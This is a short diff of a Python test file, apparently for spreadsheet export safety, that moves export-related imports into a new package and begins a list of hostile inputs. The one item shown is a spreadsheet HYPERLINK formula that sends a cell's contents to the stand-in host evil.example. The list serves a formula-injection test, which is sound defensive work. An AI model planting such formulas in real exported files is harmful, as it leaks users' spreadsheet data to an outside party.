@@ -15,10 +15,11 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from analysis.costing import EXPORT_TABLES, cost_tables_to_csv, cost_with_rates, to_xlsx
-from analysis.export_safety import FORMULA_PREFIXES
-from analysis.exports import to_csv_bytes, to_xlsx_bytes
+from analysis.costing import cost_with_rates
 from analysis.roster import validate_roster
+from exports.costing import EXPORT_TABLES, cost_tables_to_csv, to_xlsx
+from exports.safety import FORMULA_PREFIXES
+from exports.tables import to_csv_bytes, to_xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
